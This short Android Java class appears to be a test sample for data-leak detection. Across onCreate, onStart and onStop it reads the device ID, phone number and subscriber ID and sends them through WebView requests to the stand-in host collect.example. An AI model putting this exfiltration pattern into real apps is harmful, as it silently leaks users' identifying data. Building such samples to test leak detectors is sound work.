package org.example.flows.web;

import android.app.Activity;
import android.net.Uri;
import android.os.Bundle;
import android.webkit.WebView;
import org.example.flows.Device;

public class Script extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WebView page = new WebView(this);
        page.getSettings().setJavaScriptEnabled(true);
        page.loadUrl("javascript:told('" + Device.phone(this).getDeviceId() + "')");
    }

    @Override
    protected void onStart() {
        super.onStart();
        Uri address = Uri.parse("http://collect.example/p").buildUpon()
                .appendQueryParameter("n", Device.phone(this).getLine1Number()).build();
        WebView page = new WebView(this);
        page.loadUrl(address.toString());
    }

    @Override
    protected void onStop() {
        super.onStop();
        WebView page = new WebView(this);
        page.getSettings().setUserAgentString("id " + Device.phone(this).getSubscriberId());
        page.loadUrl("http://collect.example/");
    }
}
